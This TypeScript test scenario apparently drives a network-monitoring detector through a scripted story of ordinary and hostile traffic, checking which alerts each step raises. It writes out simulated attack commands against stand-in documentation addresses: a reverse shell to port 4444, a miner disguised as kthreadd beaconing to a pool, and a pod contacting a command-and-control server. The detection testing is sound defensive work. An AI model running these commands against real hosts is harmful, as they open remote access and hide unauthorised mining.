import type { OutputLine } from '../test/support/telegen.ts';
import { type Ground, POD_NAME } from './ground.ts';

/** Attributes that the alert must have, beside its body. A RegExp must match. */
export interface Expected {
  readonly body: string;
  readonly severity?: string;
  readonly attributes: Readonly<Record<string, string | number | boolean | readonly string[] | RegExp>>;
}

export interface Step {
  /** Told before it happens. */
  readonly tells: string;
  readonly play: (ground: Ground) => Promise<void>;
  /** Alerts that it must raise; none for an ordinary step. */
  readonly alerts: (ground: Ground) => readonly Expected[];
}

const KNOWN_BAD = 'Suspicious outbound connection to known bad IP';
const EXTERNAL = 'Outbound connection to external address';
const PAGES = 20;

const none = (): readonly Expected[] => [];
const curl = (...words: string[]): string[] => ['curl', '-s', '-o', '/dev/null', ...words];

/** True when the alert is the expected one. */
export function fits(alert: OutputLine, { body, severity = 'WARNING', attributes }: Expected): boolean {
  const wanted = Object.entries(attributes);
  return (
    alert.body === body &&
    alert.severity === severity &&
    wanted.every(([name, value]) => isLike(alert.attributes[name], value))
  );
}

function isLike(seen: unknown, wanted: unknown): boolean {
  return wanted instanceof RegExp
    ? wanted.test(String(seen))
    : JSON.stringify(seen) === JSON.stringify(wanted);
}

export const STORY: readonly Step[] = [
  {
    tells: 'An employee browses the shop on the internal network.',
    play: (ground) => ground.run(curl('http://192.0.2.2:8080/', 'http://192.0.2.2:8080/basket')),
    alerts: none,
  },
  {
    tells: 'A customer from outside visits the shop.',
    play: (ground) => ground.run(curl('http://192.0.2.2:8080/'), { cgroup: 'none', namespace: 'outside' }),
    alerts: none,
  },
  {
    tells: 'The nightly backup goes to 203.0.113.10, which the configuration allows.',
    play: ({ run, config }) => run(curl('--data-binary', `@${config}`, 'http://203.0.113.10:8080/backup')),
    alerts: none,
  },
  {
    tells:
      'An intruder starts a reverse shell: a program under tmp that lives for milliseconds calls 198.51.100.50:4444.',
    play: ({ run, shell }) => run([shell, '-w', '1', '198.51.100.50', '4444']),
    alerts: ({ shell }) => [
      {
        body: KNOWN_BAD,
        attributes: {
          'net.peer.ip': '198.51.100.50',
          'net.peer.port': 4444,
          'process.executable.path': shell,
          'telegen.reasons': ['blocklist', 'suspicious_port', 'external_connection'],
        },
      },
    ],
  },
  {
    tells: 'A miner that calls itself kthreadd sends a UDP beacon to its pool over IPv6.',
    play: ({ run, miner }) => run(['sh', '-c', 'echo hashrate | "$0" -u -w 1 2001:db8:bad::50 3333', miner]),
    alerts: ({ miner }) => [
      {
        body: KNOWN_BAD,
        attributes: {
          'net.peer.ip': '2001:db8:bad::50',
          'net.peer.port': 3333,
          'network.transport': 'udp',
          'process.executable.path': miner,
          'telegen.list.entry': ['2001:db8:bad::/48'],
        },
      },
      {
        body: 'Outbound Connection to a Port of Mining Pools',
        attributes: { 'net.peer.ip': '2001:db8:bad::50', 'process.executable.path': miner },
      },
    ],
  },
  {
    tells: `One program makes ${PAGES} connections to a site outside: one alert, and a closing record with the count.`,
    play: ({ run }) => run(curl('-H', 'Connection: close', `http://203.0.113.80:8080/[1-${PAGES}]`)),
    alerts: () => [
      {
        body: EXTERNAL,
        severity: 'INFO',
        attributes: { 'net.peer.ip': '203.0.113.80', 'telegen.phase': 'attempted' },
      },
      {
        body: EXTERNAL,
        severity: 'INFO',
        attributes: { 'net.peer.ip': '203.0.113.80', 'telegen.summary': true, 'telegen.count': PAGES },
      },
    ],
  },
  {
    tells: 'A connection to an outside address that refuses it. The attempt alone tells.',
    play: ({ run }) => run(curl('http://203.0.113.81:8080/')),
    alerts: () => [{ body: EXTERNAL, severity: 'INFO', attributes: { 'net.peer.ip': '203.0.113.81' } }],
  },
  {
    tells: 'A connection to an outside address that never answers. The alert does not wait for the timeout.',
    play: ({ run }) => run(curl('-m', '2', 'http://203.0.113.82:8080/')),
    alerts: () => [{ body: EXTERNAL, severity: 'INFO', attributes: { 'net.peer.ip': '203.0.113.82' } }],
  },
  {
    tells: `A container of pod shop/${POD_NAME} calls the command and control server over HTTPS.`,
    play: ({ run, pod }) => run(curl('-m', '2', 'https://198.51.100.50/'), { cgroup: pod }),
    alerts: () => [
      {
        body: KNOWN_BAD,
        attributes: {
          'net.peer.port': 443,
          'k8s.pod.name': POD_NAME,
          'k8s.namespace.name': 'shop',
          'process.executable.path': /\/curl$/,
        },
      },
    ],
  },
  {
    tells: 'The command and control server looks at the shop from its own address.',
    play: ({ run }) =>
      run(curl('--interface', '198.51.100.50', 'http://192.0.2.2:8080/admin'), {
        cgroup: 'none',
        namespace: 'outside',
      }),
    alerts: () => [
      {
        body: 'Suspicious inbound connection from known bad IP',
        attributes: {
          'net.peer.ip': '198.51.100.50',
          'net.host.port': 8080,
          'process.executable.path': /\/nginx$/,
        },
      },
    ],
  },
];
